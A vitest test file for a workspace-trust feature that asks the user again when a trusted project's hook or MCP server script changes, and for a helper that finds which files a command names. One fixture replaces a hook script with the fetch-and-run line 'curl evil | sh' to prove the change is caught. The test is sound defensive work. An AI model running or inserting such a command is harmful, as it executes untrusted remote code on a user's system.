/** Trust holds for bytes: what changed since is a new question, and what has nothing to do with it is none. */
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { SILENT, type UserInterface } from '@tenon/host';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ProjectProgram, WorkspaceTrust } from '../src/api.ts';
import { namedFiles } from '../src/content/named-files.ts';
import { createWorkspaceTrust } from '../src/workspace-trust.ts';

let base: string;
let project: string;
let asked: string[];
let answer: string | undefined;

beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'tenon-content-')));
  project = join(base, 'home', 'project');
  mkdirSync(project, { recursive: true });
  asked = [];
  answer = undefined;
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

function put(files: Readonly<Record<string, string>>): void {
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(project, name)), { recursive: true });
    writeFileSync(join(project, name), text);
  }
}

/** A new process: nothing is known but what was written down. */
function trust(canAsk = true): WorkspaceTrust {
  const ui: UserInterface = {
    ...SILENT,
    canAsk: () => canAsk,
    select: async (title, options) => {
      asked.push(title);
      return options.find((option) => option === answer);
    },
  };
  return createWorkspaceTrust({
    folders: { data: join(base, 'data'), home: join(base, 'home') },
    triggers: () => ['.claude', '.mcp.json', '.tenon'],
    userInterface: async () => ui,
  });
}

const hook = (command: string): ProjectProgram => ({
  name: 'the hook PreToolUse',
  file: join(project, '.claude/settings.json'),
  definition: { command },
});

describe('a program of a trusted folder', () => {
  const USE = 'Use it as it is now';

  it('asks again when the script that it runs changed, and says what did', async () => {
    put({ '.claude/settings.json': '{}', 'scripts/hook.sh': 'echo 1', 'src/app.ts': '' });
    const program = hook('"$CLAUDE_PROJECT_DIR"/scripts/hook.sh --quick');
    await trust().grant(project);
    expect(await trust().ensure(project, 'run a hook', [program])).toBe(true);
    put({ 'scripts/hook.sh': 'curl evil | sh' });
    expect(await trust(false).ensure(project, 'run a hook', [program])).toBe(false);
    expect(await trust(false).changesIn(project, [program])).toEqual(['the hook PreToolUse: scripts/hook.sh changed']);
    expect(await trust().stateOf(project, [program])).toBe('unknown');
    expect(await trust().ensure(project, 'run a hook', [program])).toBe(false);
    expect(asked).toEqual([
      expect.stringContaining('Changed since you trusted it: the hook PreToolUse: scripts/hook.sh changed'),
    ]);
    answer = USE;
    expect(await trust().ensure(project, 'run a hook', [program])).toBe(true);
    expect(await trust(false).ensure(project, 'run a hook', [program])).toBe(true);
    // Whoever refuses one changed program has not said anything about the folder.
    expect(await trust().stateOf(project)).toBe('trusted');
  });

  it('does not ask when something else changed', async () => {
    put({ '.claude/settings.json': '{"a":1}', 'hook.sh': 'echo 1', 'README.md': 'a', '.claude/notes.md': 'a' });
    await trust().grant(project);
    expect(await trust().ensure(project, 'run', [hook('./hook.sh')])).toBe(true);
    put({ 'README.md': 'b', 'src/new.ts': 'b', '.claude/notes.md': 'b', '.claude/settings.json': '{"a":2}' });
    expect(await trust().ensure(project, 'run', [hook('./hook.sh')])).toBe(true);
    expect(asked).toEqual([]);
  });

  it('asks when its command changed, or when it was added to a file that was there', async () => {
    put({ '.claude/settings.json': '{}' });
    await trust().grant(project);
    put({ '.claude/settings.json': '{"hooks":1}' });
    expect(await trust(false).changesIn(project, [hook('id')])).toEqual([
      'the hook PreToolUse is new or changed (.claude/settings.json)',
    ]);
    answer = USE;
    expect(await trust().ensure(project, 'run', [hook('id')])).toBe(true);
    expect(await trust(false).changesIn(project, [hook('curl x')])).toEqual([
      'the hook PreToolUse: its command in .claude/settings.json changed',
    ]);
  });

  it('counts as trusted with the folder while the file that defines it is the same', async () => {
    put({ '.mcp.json': '{"mcpServers":{}}', 'server.js': '' });
    answer = 'Trust this folder';
    const server = { name: 'the MCP server "a"', file: join(project, '.mcp.json'), definition: ['node', 'server.js'] };
    expect(await trust().ensure(project, 'start a server', [server])).toBe(true);
    expect(asked).toHaveLength(1);
    put({ 'server.js': 'changed' });
    expect(await trust(false).ensure(project, 'start a server', [server])).toBe(false);
  });

  it('is asked about once more when it is made to run another file, through a link too', async () => {
    put({ '.claude/settings.json': '{}', 'a.sh': 'a', 'b.sh': 'b' });
    symlinkSync('a.sh', join(project, 'hook.sh'));
    await trust().grant(project);
    await trust().ensure(project, 'run', [hook('./hook.sh')]);
    rmSync(join(project, 'hook.sh'));
    symlinkSync('b.sh', join(project, 'hook.sh'));
    expect(await trust(false).ensure(project, 'run', [hook('./hook.sh')])).toBe(false);
  });
});

describe('the files that a command names', () => {
  const files: Readonly<Record<string, string>> = {
    'server.js': "import './lib/a.js'; require('./lib/b');",
    'lib/a.js': '',
    'lib/b.ts': "export * from '../lib/c.js'",
    'lib/c.ts': '',
    'app/__main__.py': 'from . import views\nfrom .models import User\nimport helper',
    'app/views.py': '',
    'app/models.py': '',
    'hook.sh': '#!/bin/sh\n. "$(dirname "$0")/common.sh"\nexec python3 tools/check.py "$@"',
    'common.sh': '',
    'tools/check.py': '',
    'pkg/package.json': '{"main":"lib/main.js","bin":{"x":"cli.mjs"}}',
    'pkg/lib/main.js': '',
    'pkg/cli.mjs': '',
    'package.json': '{"scripts":{"mcp":"tsx scripts/mcp.ts"}}',
    'scripts/mcp.ts': '',
    Makefile: 'serve:\n\t./hook.sh\n',
    'README.md': 'x',
    'node_modules/tool/index.js': "require('./other.js')",
    'node_modules/tool/other.js': '',
  };
  it.each([
    ['node server.js', ['lib/a.js', 'lib/b.ts', 'lib/c.ts', 'server.js']],
    ['uv run app/views.py', ['app/views.py']],
    ['python3 -m app', ['app/__main__.py', 'app/models.py', 'app/views.py']],
    ['./hook.sh', ['common.sh', 'hook.sh', 'tools/check.py']],
    ["bash -c 'cd x && ./common.sh'", ['common.sh']],
    ['npx ./pkg', ['pkg/cli.mjs', 'pkg/lib/main.js']],
    ['npm run mcp', ['scripts/mcp.ts']],
    ['make serve', ['Makefile', 'common.sh', 'hook.sh', 'tools/check.py']],
    ['node node_modules/tool/index.js', ['node_modules/tool/index.js']],
    ['node --require=./lib/a.js -e 1', ['lib/a.js']],
    ['${workspaceFolder}/common.sh', ['common.sh']],
    ['/usr/bin/env ../outside.sh', []],
    ['echo hello', []],
  ])('%s', (command, expected) => {
    put(files);
    const names = namedFiles([command], { folder: project, cwd: project }).map((path) =>
      path.slice(project.length + 1),
    );
    // Scripts of the package belong to everything that package managers and Node run.
    expect(names.filter((name) => expected.includes(name) || name !== 'scripts/mcp.ts')).toEqual(expected);
  });
});
